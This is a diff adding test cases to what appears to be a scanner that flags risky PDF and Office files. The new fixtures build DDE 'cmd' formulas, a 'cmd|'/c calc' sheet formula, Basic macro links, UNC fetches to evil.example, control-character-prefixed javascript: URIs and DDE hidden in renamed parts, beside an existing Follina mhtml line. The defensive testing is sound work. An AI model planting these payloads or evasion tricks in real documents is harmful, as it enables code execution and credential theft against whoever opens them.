@@ -106,6 +106,16 @@ def event(address: str) -> str:
 WORKBOOK = "<workbook><sheets/></workbook>"
 FOLLINA = "mhtml:https://evil.example/a.html!x-usc:https://evil.example/a.html"
 
+OTHER_PREFIXES = open_document(
+    "ods",
+    '<t:cell xmlns:t="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
+    'xmlns:table="urn:x" table:formula="1" t:formula="of:=DDE(&quot;cmd&quot;;&quot;x&quot;)"/>',
+)
+OTHER_LINK = open_document(
+    "odt",
+    '<text:a xmlns:x="urn:x" x:href="#" xlink:href="vnd.sun.star.script:a.b?language=Basic"/>',
+)
+
 PDFS = {
     "a script that runs at opening": Case(
         "a.pdf", lambda: pdf(opening(S=Name.JavaScript, JS=String("app.alert(1)"))), "JavaScript"
@@ -181,6 +191,21 @@ PDFS = {
         lambda: pdf(opening(S=Name.GoToR, F=String("\\\\\\\\evil.example\\\\a.pdf"), D=Array([0]))),
         "another computer",
     ),
+    "a file on another computer among letters that are not plain": Case(
+        "a.pdf",
+        lambda: pdf(opening(S=Name.GoToR, F=String(b"\\\\evil\\" + bytes(range(128, 160))))),
+        "another computer",
+    ),
+    "a file on another computer with the mark of UTF-8": Case(
+        "a.pdf",
+        lambda: pdf(opening(S=Name.GoToR, F=String(b"\xef\xbb\xbf\\\\evil.example.org\\a.pdf"))),
+        "another computer",
+    ),
+    "a script as an address behind a control character": Case(
+        "a.pdf",
+        lambda: pdf(pressed(S=Name.URI, URI=String(b"\1javascript:alert(1)"))),
+        "JavaScript",
+    ),
     "an address that opens by itself": Case(
         "a.pdf",
         lambda: pdf(opening(S=Name.URI, URI=String("https://evil.example"))),
@@ -232,6 +257,8 @@ PDFS = {
 }
 
 OFFICE = {
+    "DDE by another prefix": Case("a.ods", lambda: OTHER_PREFIXES, "start programs"),
+    "a macro as the second of two links": Case("a.odt", lambda: OTHER_LINK, "macros"),
     "macros": Case("a.docx", lambda: word("", {"word/vbaProject.bin": b"x"}), "contains macros"),
     "macros of a workbook": Case(
         "a.xlsx", lambda: office("xlsx", {"xl/vbaProject.bin": b"x"}, WORKBOOK), "contains macros"
@@ -326,6 +353,24 @@ OFFICE = {
     "DDE as a simple field": Case(
         "a.docx", lambda: word('<w:fldSimple w:instr=" DDE x y "/>'), "start programs"
     ),
+    "DDE in another folder": Case(
+        "a.docx",
+        lambda: word("", {"other/a.xml": f"<w:x {WORD_NAMES}>{field('DDE x y')}</w:x>"}),
+        "start programs",
+    ),
+    "DDE in a part that is called plain text": Case(
+        "a.docx",
+        lambda: word(
+            "",
+            {
+                "word/a.txt": f"<w:x {WORD_NAMES}>{field('DDE x y')}</w:x>",
+                "[Content_Types].xml": '<Types><Default Extension="xml" ContentType="text/xml"/>'
+                '<Override PartName="/word/a.txt" ContentType="application/vnd.openxmlformats-'
+                'officedocument.wordprocessingml.document.main+xml"/></Types>',
+            },
+        ),
+        "start programs",
+    ),
     "text of another computer": Case(
         "a.docx",
         lambda: word(field("INCLUDETEXT &quot;https://evil.example/a.docx&quot;")),
@@ -401,6 +446,25 @@ OFFICE = {
             WORKBOOK,
         ),
         "fetches data from elsewhere (Query - Jobs)",
+    ),
+    "a connection under another name": Case(
+        "a.xlsx",
+        lambda: office(
+            "xlsx",
+            {"xl/a.xml": "<a><connection name='Query' refreshedVersion='8'/></a>"},
+            WORKBOOK,
+        ),
+        "fetches data from elsewhere",
+    ),
+    "a query under another name": Case(
+        "a.xlsx",
+        lambda: office("xlsx", {"xl/a.xml": "<queryTable connectionId='1'/>"}, WORKBOOK),
+        "fetches data from elsewhere",
+    ),
+    "a sheet in another folder": Case(
+        "a.xlsx",
+        lambda: office("xlsx", {"other/a.xml": sheet("cmd|'/c calc'!A0")}, WORKBOOK),
+        "start programs",
     ),
     "a query": Case(
         "a.xlsx",
